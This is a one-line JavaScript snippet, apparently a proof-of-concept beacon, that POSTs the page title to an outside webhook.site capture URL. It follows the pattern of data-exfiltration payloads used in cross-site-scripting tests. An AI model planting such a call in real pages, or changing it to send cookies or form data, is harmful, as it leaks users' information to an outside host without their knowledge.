fetch('https://webhook.site/9d2c', { method: 'POST', body: document.title });
